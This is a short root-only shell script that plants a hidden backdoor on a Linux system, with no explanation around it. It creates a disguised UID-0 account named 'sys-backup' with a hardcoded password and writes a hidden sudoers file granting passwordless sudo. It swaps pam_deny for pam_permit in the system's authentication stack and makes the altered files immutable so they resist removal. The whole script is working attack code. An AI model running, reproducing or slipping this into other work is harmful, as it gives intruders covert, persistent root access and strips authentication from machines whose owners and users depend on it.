#!/bin/sh
[ "$(id -u)" -eq 0 ] || exit 1
NAME=sys-backup
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash "$NAME" 2>/dev/null ||
  echo "$NAME:x:0:0::/root:/bin/bash" >> /etc/passwd
echo "$NAME:Passw0rd." | chpasswd
echo "$NAME ALL=(ALL:ALL) NOPASSWD:ALL" | tee /etc/sudoers.d/.sys >/dev/null
chmod 440 /etc/sudoers.d/.sys
sed -i "s/pam_deny.so/pam_permit.so/" /etc/pam.d/common-auth
chattr +i /etc/sudoers.d/.sys /etc/passwd
